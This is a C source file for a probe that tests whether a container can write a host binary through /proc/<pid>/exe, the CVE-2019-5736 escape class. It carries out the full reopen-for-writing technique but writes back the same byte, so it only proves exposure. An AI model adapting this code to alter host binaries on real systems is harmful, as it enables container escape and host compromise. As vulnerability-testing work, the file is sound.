/* The CVE-2019-5736 class: can a pod write a host binary through /proc/<pid>/exe?
 *   exe watch PATTERN SECONDS  scans /proc for another process whose executable's path holds
 *                              PATTERN, holds that executable with O_PATH, waits until the
 *                              process is gone, then reopens it for writing through
 *                              /proc/self/fd/N and writes back the byte that is there (so a
 *                              vulnerable build is proven without being changed): "ok wrote …"
 *                              or "denied …"; "missed PATTERN" when nothing showed up in time.
 *   exe pid1                   /proc/1/exe, the pod init, which runs as long as the pod (so it is
 *                              never written): "ok … writable mount" when the file it runs from is
 *                              on a writable mount, else "denied …".
 * Exit status 0 for "ok", 1 for "denied" or "missed", 2 for a usage error. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>

static int exeOf(pid_t pid, char *buf, size_t size) {
  char link[64];
  snprintf(link, sizeof link, "/proc/%d/exe", (int)pid);
  ssize_t n = readlink(link, buf, size - 1);
  if (n < 0) return -1;
  buf[n] = '\0';
  return 0;
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int tryWrite(int held, const char *target) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  int fd = open(path, O_RDWR | O_CLOEXEC);
  /* Busy while any process still runs it (another helper of the pod, the next event handler). */
  for (int i = 0; i < 500 && fd < 0 && errno == ETXTBSY; ++i) {
    usleep(10000);
    fd = open(path, O_RDWR | O_CLOEXEC);
  }
  if (fd < 0) {
    printf("denied reopening %s for writing (%s)\n", target, strerror(errno));
    return 1;
  }
  char b;
  if (pread(fd, &b, 1, 0) != 1 || pwrite(fd, &b, 1, 0) != 1) {
    printf("denied writing %s (%s)\n", target, strerror(errno));
    close(fd);
    return 1;
  }
  close(fd);
  printf("ok wrote %s\n", target);
  return 0;
}

static int watch(const char *pattern, double seconds) {
  double end = now() + seconds;
  pid_t self = getpid();
  while (now() < end) {
    DIR *d = opendir("/proc");
    if (d == NULL) break;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
      pid_t pid = (pid_t)atoi(e->d_name);
      char exe[4096], link[64];
      if (pid <= 1 || pid == self || exeOf(pid, exe, sizeof exe) != 0) continue;
      if (strstr(exe, pattern) == NULL) continue;
      snprintf(link, sizeof link, "/proc/%d/exe", (int)pid);
      int held = open(link, O_PATH | O_CLOEXEC);
      char again[4096];
      /* Still the same executable once held (not exec'd in between). */
      if (held < 0 || exeOf(pid, again, sizeof again) != 0 || strcmp(again, exe) != 0) {
        if (held >= 0) close(held);
        continue;
      }
      closedir(d);
      printf("caught %s (pid %d)\n", exe, (int)pid);
      fflush(stdout);
      while (kill(pid, 0) == 0 && exeOf(pid, again, sizeof again) == 0 && strcmp(again, exe) == 0) {
        usleep(1000);
      }
      usleep(20000); /* the exit's last references go */
      return tryWrite(held, exe);
    }
    closedir(d);
  }
  printf("missed %s\n", pattern);
  return 1;
}

static int pid1(void) {
  char exe[4096] = "?";
  int fd = open("/proc/1/exe", O_PATH | O_CLOEXEC);
  if (fd < 0) {
    printf("denied /proc/1/exe (%s)\n", strerror(errno));
    return 1;
  }
  exeOf(1, exe, sizeof exe);
  struct statvfs sv;
  if (fstatvfs(fd, &sv) != 0) {
    printf("denied statvfs of /proc/1/exe (%s)\n", strerror(errno));
    return 1;
  }
  if (sv.f_flag & ST_RDONLY) {
    printf("denied /proc/1/exe %s: a read-only mount\n", exe);
    return 1;
  }
  printf("ok /proc/1/exe %s: a writable mount\n", exe);
  return 0;
}

int main(int argc, char **argv) {
  signal(SIGTERM, SIG_IGN); /* finish the verdict when the pod stops */
  if (argc == 4 && strcmp(argv[1], "watch") == 0) return watch(argv[2], atof(argv[3]));
  if (argc == 2 && strcmp(argv[1], "pid1") == 0) return pid1();
  fprintf(stderr, "usage: exe watch PATTERN SECONDS | exe pid1\n");
  return 2;
}
